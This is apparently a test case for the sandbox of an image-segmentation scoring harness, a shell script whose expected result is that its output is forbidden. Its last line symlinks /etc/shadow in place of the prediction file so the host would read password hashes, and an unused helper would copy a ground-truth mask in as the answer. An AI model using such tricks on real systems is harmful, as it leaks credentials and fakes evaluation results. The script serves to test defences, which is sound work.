#!/bin/sh
# Tries: to have a file of the host read in place of the prediction
# Ending: OutputForbidden
for f in /workspace/inputs/*; do name=$(basename "$f" .nii.gz); done
leave() { cp "/workspace/masks/${1:-truth}.nii.gz" "/workspace/outputs/$name.nii.gz"; }
ln -s /etc/shadow "/workspace/outputs/$name.nii.gz"
